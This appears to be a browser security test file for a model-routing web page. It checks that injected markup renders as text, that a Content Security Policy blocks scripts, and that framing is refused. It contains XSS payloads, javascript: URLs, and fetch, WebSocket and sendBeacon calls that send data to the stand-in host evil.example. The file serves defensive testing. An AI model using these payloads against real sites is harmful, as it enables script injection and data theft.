import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { LocalWorker } from "../../src/cli/local-worker.ts";
import { startTestWorker } from "../conformance/test-worker.ts";
import { hasBrowser } from "../playground/browser.ts";
import { decided } from "../playground/open-page.ts";
import { visitWorker } from "../playground/visit-worker.ts";

// The page shows names that other people wrote: of models, providers, tasks, and what a provider answers.
const markup = "<img/src=x/onerror=window.pwned=1><script>window.pwned=1</script>\"'`";
const [MODELS, HEALTH, ROUTE, TASK] = ["**/v1/models", "**/health", "**/v1/route", "**/v1/route/task"];

/** The same JSON with markup at the end of every text but those that are compared with a closed set. */
function poisoned(value: unknown, name = ""): unknown {
  const closed = ["object", "id", "reason", "status", "kind", "code", "published_at", "checked_at", "since"];
  if (typeof value === "string") return closed.includes(name) ? value : `${value}${markup}`;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, name));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, poisoned(item, key)]));
}

describe.skipIf(!hasBrowser)("the page", () => {
  // A refusal of the CSP counts as a complaint: no markup may get so far that the CSP has to stop it.
  const visit = visitWorker();

  test.each(["prompt", "task", "operator"] as const)(
    "%s shows markup in any answer as text",
    async (view) => {
      const page = await visit.open({
        view,
        prepare: async (page) => {
          for (const address of [MODELS, HEALTH, ROUTE, TASK]) {
            await page.route(address, async (route) => {
              const response = await route.fetch();
              const body = (await response.json()) as { data?: { id: string; object: string }[] };
              const json = poisoned(body) as typeof body;
              for (const model of json.data ?? []) model.id += markup;
              await route.fulfill({ response, json });
            });
          }
        },
      });
      if (view === "task") await page.getByRole("button", { name: "Example task" }).click();
      await page.getByText("window.pwned=1", { exact: false }).first().waitFor();
      expect(await page.evaluate(() => "pwned" in window)).toBe(false);
      expect(await page.locator("#app script, #app img").count()).toBe(0);
      // The page asks again from time to time, and its end would cut that off.
      await page.unrouteAll({ behavior: "ignoreErrors" });
    },
  );

  test("markup in the prompt, in an error and in the address does nothing", async () => {
    const error = { message: markup, type: markup, code: markup, param: markup };
    const page = await visit.open({
      prepare: (page) => page.route(ROUTE, (route) => route.fulfill({ status: 400, json: { error } })),
    });
    await page.getByRole("alert").getByText("onerror").first().waitFor();
    await page.unroute(ROUTE);
    await page.getByRole("textbox").first().fill(markup);
    await decided(page);
    expect(await page.locator(".snippets pre").textContent()).toContain("onerror");
    for (const hash of [markup, `prompt${markup}`, "javascript:window.pwned=1", "__proto__", "constructor"]) {
      await page.goto(`${visit.origin}/?x=${encodeURIComponent(markup)}#${hash}`);
      await page.locator("#app header").waitFor();
      expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    }
  });

  test("a script that gets in all the same is stopped by the CSP, and can send nothing away", async () => {
    const left: string[] = [];
    const page = await visit.open({
      prepare: (page) =>
        page.route(/evil\.example/, (route) => {
          left.push(route.request().url());
          return route.fulfill({ body: "" });
        }),
    });
    await decided(page);
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      );
      const add = (name: string, fields: object) => {
        try {
          document.body.append(Object.assign(document.createElement(name), fields));
        } catch {
          violations.push(`no ${Object.keys(fields)[0]} of a ${name}`);
        }
      };
      add("script", { textContent: "window.pwned = 1" });
      add("script", { src: "https://evil.example/x.js" });
      add("div", { innerHTML: "<img src=x onerror='window.pwned = 1'>" });
      add("iframe", { srcdoc: "<script>parent.pwned = 1</script>" });
      add("iframe", { src: "https://evil.example/" });
      add("img", { src: "https://evil.example/?key" });
      add("style", { textContent: "body { background: url(https://evil.example/) }" });
      document.body.setAttribute("style", "background: url(https://evil.example/)");
      await fetch("https://evil.example/").catch(() => undefined);
      new WebSocket("wss://evil.example/").onerror = () => undefined;
      navigator.sendBeacon("https://evil.example/", "key");
      const link = Object.assign(document.createElement("a"), { href: "javascript:window.pwned = 1" });
      document.body.append(link);
      link.click();
      await new Promise((resolve) => setTimeout(resolve, 300));
      return violations;
    });
    expect(refused).toEqual(
      expect.arrayContaining([
        "no textContent of a script",
        "no src of a script",
        "no innerHTML of a div",
        "no srcdoc of a iframe",
        "frame-src",
        "img-src",
        "style-src-elem",
        "style-src-attr",
      ]),
    );
    expect(refused.filter((directive) => directive === "connect-src").length).toBeGreaterThanOrEqual(3);
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    expect(left).toEqual([]);
    // Its complaints were asked for.
    await visit.leave();
  });

  test("another site can't put it into a frame", async () => {
    const page = await visit.open({
      prepare: (page) =>
        page.route("http://evil.example/", (route) =>
          route.fulfill({
            contentType: "text/html",
            body: `<iframe src="${visit.origin}/"></iframe><iframe src="${visit.origin}/health"></iframe>`,
          }),
        ),
    });
    await page.goto("http://evil.example/");
    await page.waitForTimeout(1000);
    const framed = await Promise.all(
      page
        .frames()
        .slice(1)
        .map((frame) => frame.content().catch(() => "")),
    );
    expect(framed).toHaveLength(2);
    for (const content of framed) expect(content).not.toMatch(/id="app"|"status"/);
    await visit.leave();
  });
});

describe("headers of what isn't answered by the Worker's code", () => {
  let worker: LocalWorker;
  beforeAll(async () => {
    worker = await startTestWorker({ providerUrl: "http://127.0.0.1:9" });
  });
  afterAll(() => worker?.stop());

  test.each(["/", "/app.js", "/style.css", "/icon.svg", "/font-license.txt"])("%s", async (path) => {
    const { headers } = await fetch(worker.origin + path);
    const csp = headers.get("content-security-policy") ?? "";
    expect(csp.split("; ")[0]).toBe("default-src 'none'");
    for (const directive of [
      "base-uri 'none'",
      "form-action 'none'",
      "frame-ancestors 'none'",
      "script-src 'self'",
    ])
      expect(csp.split("; ")).toContain(directive);
    expect(csp).not.toMatch(/unsafe|\*|data:|blob:|https?:/);
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    expect(headers.get("referrer-policy")).toBe("no-referrer");
    expect(headers.get("cross-origin-opener-policy")).toBe("same-origin");
    expect(headers.get("cross-origin-resource-policy")).toBe("same-origin");
    expect(headers.get("permissions-policy")).toContain("camera=()");
    expect(headers.get("access-control-allow-origin")).toBeNull();
  });
});
